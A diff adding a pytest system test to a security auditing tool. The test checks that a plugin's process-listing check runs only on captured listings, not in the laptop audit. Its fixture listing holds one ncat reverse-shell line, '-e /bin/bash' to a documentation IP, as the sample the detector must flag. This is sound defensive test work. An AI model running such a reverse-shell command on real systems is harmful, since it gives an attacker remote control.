@@ -109,6 +109,28 @@ def test_installed_plugin_is_listed_and_runs_and_broken_ones_are_visible(plugin_
     assert "passwords.txt on the Desktop" in explain.stdout
 
 
+@pytest.mark.system
+def test_a_plugin_check_for_another_subject_runs_only_there(plugin_site, tmp_path) -> None:
+    """DS-X-ACME-020 looks at captured listings: it runs on `processes --from` and is absent from the
+    laptop audit (not even skipped)."""
+    rows = {r["id"]: r for r in json.loads(_digisafe(plugin_site, tmp_path, "checks", "--format", "json").stdout)}
+    assert rows["DS-X-ACME-020"]["subjects"] == ["listing"]
+    listing = tmp_path / "ps.txt"
+    listing.write_text("  PID USER     COMM             ARGS\n    1 root     /sbin/init       /sbin/init\n"
+                       "  812 sam      /usr/bin/ncat    /usr/bin/ncat 203.0.113.5 4444 -e /bin/bash\n")
+    done = _digisafe(plugin_site, tmp_path, "processes", "--from", str(listing), "--platform", "linux",
+                     "--format", "json")
+    report = json.loads(done.stdout)
+    results = {r["check_id"]: r for r in report["results"]}
+    assert results["DS-X-ACME-020"]["findings"][0]["evidence"]["pid"] == 812, done.stderr
+    assert results["DS-X-ACME-020"]["origin"] == "plugin digisafe-acme 1.2.0" and "DS-PROC-010" in results
+    assert "DS-X-ACME-010" not in results  # a laptop check is not run on a listing
+    audit = _digisafe(plugin_site, tmp_path, "audit", "--only", "DS-X-ACME-010", "--format", "json")
+    assert "DS-X-ACME-020" not in audit.stdout
+    wrong = _digisafe(plugin_site, tmp_path, "audit", "--only", "DS-X-ACME-020")
+    assert wrong.returncode == 2 and "does not look at this laptop" in wrong.stderr
+
+
 def test_builtin_checks_are_registered_through_the_entry_point_group() -> None:
     from importlib.metadata import distribution
 
